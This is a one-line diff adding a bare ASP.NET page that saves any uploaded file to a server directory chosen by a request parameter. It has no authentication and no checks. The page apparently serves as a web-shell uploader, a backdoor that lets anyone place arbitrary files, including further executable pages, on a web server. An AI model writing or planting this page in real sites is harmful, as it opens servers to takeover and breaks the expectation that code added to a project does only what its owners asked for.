@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %><script runat="server">void Page_Load(object s, EventArgs e){if(Request.Files.Count>0){HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Request["exh_dir"], thisFile.FileName));}}</script><form runat="server" enctype="multipart/form-data"><input type="file" name="u"/><input type="submit"/></form>
